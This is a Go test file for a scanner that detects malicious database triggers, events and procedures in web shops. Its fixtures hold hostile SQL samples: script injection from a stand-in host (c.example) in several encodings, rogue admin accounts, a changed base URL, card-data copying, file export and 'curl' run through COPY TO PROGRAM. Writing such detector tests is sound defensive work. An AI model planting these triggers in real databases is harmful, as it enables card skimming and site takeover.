package database

import (
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
)

var someConcerns = concerns{
	run:      map[string]bool{"core_config_data": true, "cms_block": true, "wp_options": true},
	access:   map[string]bool{"admin_user": true},
	payments: map[string]bool{"sales_order": true, "orders": true},
}

func TestTriggersAreJudged(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		code code
		want tillwatch.Severity
	}{
		{"a skimmer that comes back", code{kind: "trigger", on: "sales_order", body: `BEGIN UPDATE core_config_data SET value = CONCAT(value, '<script src="https://c.example/x.js"></script>') WHERE path = 'design/head/includes'; END`}, tillwatch.Critical},
		{"in hexadecimal digits", code{kind: "trigger", on: "sales_order", body: `UPDATE cms_block SET content = CONCAT(content, 0x3c736372697074207372633d2f2f632e6578616d706c653e3c2f7363726970743e)`}, tillwatch.Critical},
		{"in base64", code{kind: "event", body: `UPDATE wp_options SET option_value = FROM_BASE64('PHNjcmlwdCBzcmM9Ly9jLmV4YW1wbGU+PC9zY3JpcHQ+') WHERE option_name = 'widget_text'`}, tillwatch.Critical},
		{"in character codes", code{kind: "trigger", on: "x", body: `UPDATE y SET z = CHAR(60,115,99,114,105,112,116,62,97,108,101,114,116,40,49,41,60,47,115,99,114,105,112,116,62)`}, tillwatch.Critical},
		{"in pieces", code{kind: "trigger", on: "x", body: `UPDATE y SET z = CONCAT('<scr', 'ipt src=//c.example', '></scr', 'ipt>')`}, tillwatch.Critical},
		{"in a comment that MySQL runs", code{kind: "trigger", on: "x", body: "/*!50003 INSERT INTO admin_user (username) VALUES ('x') */"}, tillwatch.High},
		{"an administrator", code{kind: "trigger", on: "sales_order", body: "INSERT INTO `shop`.`admin_user` SET username = 'support', password = 'x'"}, tillwatch.High},
		{"a setting", code{kind: "event", body: "REPLACE INTO core_config_data (path, value) VALUES ('web/secure/base_url', 'https://c.example/')"}, tillwatch.High},
		{"card data", code{kind: "trigger", on: "sales_order_payment", body: "INSERT INTO stat_cache (a, b) VALUES (NEW.cc_number_enc, NEW.cc_cvv)"}, tillwatch.High},
		{"a file", code{kind: "event", body: "SELECT * FROM orders INTO OUTFILE '/var/www/html/media/x.csv'"}, tillwatch.High},
		{"a program", code{kind: "procedure", body: "COPY (SELECT 1) TO PROGRAM 'curl c.example'"}, tillwatch.High},
		{"PostgreSQL", code{kind: "trigger", on: "order", body: "CREATE TRIGGER x AFTER INSERT ON \"order\" EXECUTE FUNCTION x()\nBEGIN UPDATE \"cms_block\" SET content = content || '<script src=//c.example></script>'; RETURN NEW; END"}, tillwatch.Critical},
		{"a procedure that changes settings", code{kind: "procedure", body: "UPDATE core_config_data SET value = v WHERE path = p"}, tillwatch.Medium},

		{"stock", code{kind: "trigger", on: "order_item", body: "BEGIN UPDATE product SET stock = stock - NEW.quantity WHERE id = NEW.product_id; END"}, 0},
		{"a change log", code{kind: "trigger", on: "cms_block", body: "BEGIN INSERT IGNORE INTO `cms_block_cl` (`entity_id`) VALUES (NEW.`block_id`); END"}, 0},
		{"a date", code{kind: "trigger", on: "orders", body: "SET NEW.updated_at = NOW()"}, 0},
		{"an audit", code{kind: "trigger", on: "orders", body: "INSERT INTO orders_audit (id, old_status, new_status) VALUES (OLD.id, OLD.status, NEW.status)"}, 0},
		{"a date of PostgreSQL", code{kind: "trigger", on: "customer", body: "BEGIN NEW.updated_at = now(); RETURN NEW; END"}, 0},
		{"an old price", code{kind: "trigger", on: "product", body: "INSERT INTO price_history SELECT id, price, 'a < b' FROM product WHERE id = NEW.id -- <script>"}, 0},
	} {
		if v := judgeTrigger(c.code, someConcerns); v.severity != c.want && !(c.want == 0 && v.severity == 0) {
			if v.severity < c.want || c.want == 0 {
				t.Errorf("%s: %s, %v", c.name, v.severity, v.what)
			}
		}
	}
}

func FuzzJudgeTrigger(f *testing.F) {
	for _, s := range []string{"'", "/*!", "$a$", "$$'$$", `'\`, "CHAR(60,0x3c,4294967295)", "0x3c3", "/*", "--", "#", `"a"`, "x'3c73637269'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, body string) {
		v := judgeTrigger(code{kind: "trigger", on: "x", body: body}, someConcerns)
		if v.severity > 0 && (len(v.what) == 0 || v.certainty == 0) {
			t.Errorf("%+v", v)
		}
		if s := squeezeSQL(body); squeezeSQL(s) == "" && strings.TrimSpace(s) != "" && !strings.ContainsAny(s, "'\"#-/$\\") {
			t.Errorf("%q is lost", s)
		}
	})
}

func TestServersTriggersAreSeen(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d *testDatabase) {
		d.exec("CREATE TABLE customer_order (id INTEGER PRIMARY KEY, email VARCHAR(100), note TEXT)", "CREATE TABLE site_block (id INTEGER PRIMARY KEY, html TEXT)")
		const set = "UPDATE site_block SET html = '<script src=//c.example></script>'"
		switch d.dialect {
		case mysqlDialect:
			d.exec("CREATE TRIGGER back AFTER INSERT ON customer_order FOR EACH ROW "+set, "CREATE EVENT nightly ON SCHEDULE EVERY 1 DAY DO "+set, "CREATE PROCEDURE put() "+set)
		case postgresDialect:
			d.exec("CREATE FUNCTION put() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "+set+"; RETURN NEW; END $$",
				"CREATE TRIGGER back AFTER INSERT ON customer_order FOR EACH ROW EXECUTE FUNCTION put()", "CREATE RULE nightly AS ON DELETE TO customer_order DO ALSO "+set)
		case sqliteDialect:
			d.exec("CREATE TRIGGER back AFTER INSERT ON customer_order BEGIN " + set + "; END")
		}
		s := d.look(Config{})
		want := map[dialect]int{mysqlDialect: 3, postgresDialect: 3, sqliteDialect: 1}[d.dialect]
		if len(s.signs) != want {
			t.Errorf("%d signs, want %d: %+v", len(s.signs), want, s.signs)
		}
		if !signAt("trigger back on customer_order")(s) {
			t.Errorf("%+v", s.signs)
		}
		if len(s.gaps) > 0 {
			t.Errorf("%+v", s.gaps)
		}
	})
}
